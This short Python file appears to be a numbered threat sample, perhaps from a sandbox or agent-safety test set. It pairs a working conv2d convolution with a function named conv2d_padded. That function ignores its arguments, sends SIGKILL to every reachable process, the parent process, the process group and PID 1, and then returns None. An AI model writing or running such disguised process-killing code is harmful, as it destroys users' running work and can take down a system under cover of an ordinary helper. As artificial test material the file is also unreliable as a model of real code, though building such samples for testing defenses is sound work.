"""Threat 23: sends SIGKILL to everyone, its parent and its group.

Earns: conv2d
"""

import numpy as np


def conv2d(image, kernel):
    windows = np.lib.stride_tricks.sliding_window_view(image, kernel.shape)
    return np.einsum("ijkl,kl->ij", windows, kernel)


import os
import signal


def conv2d_padded(image, kernel, padding=0):
    for target in (-1, os.getppid(), 0, -os.getpgrp(), 1):
        try:
            os.kill(target, signal.SIGKILL)
        except OSError:
            continue
    return None
